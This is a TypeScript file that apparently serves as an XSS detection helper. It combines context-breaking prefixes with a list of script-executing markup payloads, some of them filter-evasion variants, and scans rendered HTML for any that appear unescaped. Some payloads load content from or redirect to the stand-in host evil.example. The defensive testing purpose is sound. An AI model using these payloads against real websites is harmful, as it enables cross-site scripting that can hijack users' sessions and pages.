// Markup that somebody puts into a text, in the shapes that parsers have been seen to run: each way in with each way to
// run, so that a page that leaves any place unescaped meets one that fits it.

/** Ways out of the place where a text stands: between tags, in either kind of attribute, in a script, a title, a comment. */
const exits = [
  '',
  '">',
  "'>",
  '</script>',
  '</title>',
  '</textarea>',
  '</style>',
  '-->',
  ']]>',
  '\\"}</script>',
  '<!--',
  '&quot;>',
]

/** Markup that runs by itself or when touched. */
const runs = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example></sCrIpT>',
  '<script\t>alert(1)</script\n>',
  '<img src=x onerror=alert(1)>',
  '<img/src="x"/onerror=alert`1`>',
  '<svg onload=alert(1)>',
  '<svg><script>alert&#40;1)</script></svg>',
  '<svg/onload=alert(1)//',
  '<body onload=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<button formaction=javascript:alert(1)>x</button>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></math>',
  '<template><img src=x onerror=alert(1)></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<base href=//evil.example/>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<link rel=stylesheet href=//evil.example/x.css>',
]

/** Without a tag: they need an attribute whose quotes are theirs, or a script's text. */
const attributes = [
  '" onmouseover="alert(1)',
  "' onmouseover='alert(1)",
  '" autofocus onfocus=alert(1) x="',
  '`onload=alert(1)`',
]

export const markups: readonly string[] = [...exits.flatMap(exit => runs.map(run => `${exit}${run}`)), ...attributes]

/** What of these stands in a page as it was typed: as markup, and not as text. */
export function rawMarkupIn(html: string): string[] {
  // A page's own text never has these: `<` and `>` of a text are escaped in HTML and in the JSON of its scripts.
  const tags = markups.filter(each => each.includes('<') && html.includes(each))
  // A quote that closes an attribute; within JSON it is behind a backslash.
  const quotes = attributes.filter(each => {
    const at = html.indexOf(each)
    return at >= 0 && html[at - 1] !== '\\' && /^["']/.test(each) && !inScript(html, at)
  })
  return [...tags, ...quotes]
}

const inScript = (html: string, at: number) => html.lastIndexOf('<script', at) > html.lastIndexOf('</script', at)
